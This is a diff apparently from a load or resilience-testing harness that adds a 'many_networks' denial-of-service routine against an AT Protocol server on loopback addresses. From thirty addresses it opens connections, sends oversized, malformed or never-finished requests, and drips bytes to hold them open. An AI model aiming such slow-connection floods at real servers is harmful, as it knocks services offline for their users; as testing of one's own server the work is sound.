@@ -274,6 +274,34 @@ def slow_heads(aim: Aim, address: str) -> None:
         time.sleep(1.0)
 
 
+def many_networks(aim: Aim, address: str) -> None:
+    """Thirty networks at a time: bodies that drip, a blob taken in crumbs, heads without an end."""
+    own = {"Authorization": f"Bearer {aim.made['token']}", "Content_Length": "900000"}
+    blob = f"/xrpc/com.atproto.sync.getBlob?did={aim.made['did']}&cid={aim.made['blob']}"
+    ranges = ",".join(f"{at}-{at + 1}" for at in range(0, 4_000, 2))
+    record, upload = "/xrpc/com.atproto.repo.createRecord", "/xrpc/com.atproto.repo.uploadBlob"
+    begins = (
+        head("POST", record, aim.port, Content_Type="application/json", **own) + b"[" * 65_000,
+        head("POST", upload, aim.port, Content_Type="video/mp4", **{**own, **_LONG}),
+        head("GET", blob, aim.port, Range=f"bytes={ranges}"),
+        head("GET", "/", aim.port, X_A="a" * 30_000)[:-4],
+    )
+    subnet = address.rpartition(".")[2]
+    held: list[socket.socket] = []
+    for number in range(1, 31):
+        for begin in begins:
+            with suppress(OSError):
+                held.append(connect(f"127.1.{subnet}.{number}", aim.port, SMALL_BUFFER))
+                held[-1].sendall(begin)
+    while not aim.is_over():
+        for each in held:
+            with suppress(OSError):
+                each.send(b"x" * 2_048)
+        time.sleep(1.0)
+
+
+_LONG = {"Content_Length": "90000000"}
+
 # Each attack with the number of threads that run it from each address.
 ATTACKS: dict[str, tuple[tuple[Attack, int], ...]] = {
     "long heads": ((long_heads, 2),),
@@ -283,6 +311,7 @@ ATTACKS: dict[str, tuple[tuple[Attack, int], ...]] = {
     "silent DIDs": ((silent_dids, 24),),
     "unread sockets": ((unread_sockets, 200),),
     "crumbs": ((crumbs, 4), (pings, 8), (slow_heads, 10)),
+    "many networks": ((many_networks, 4),),
 }
 
 
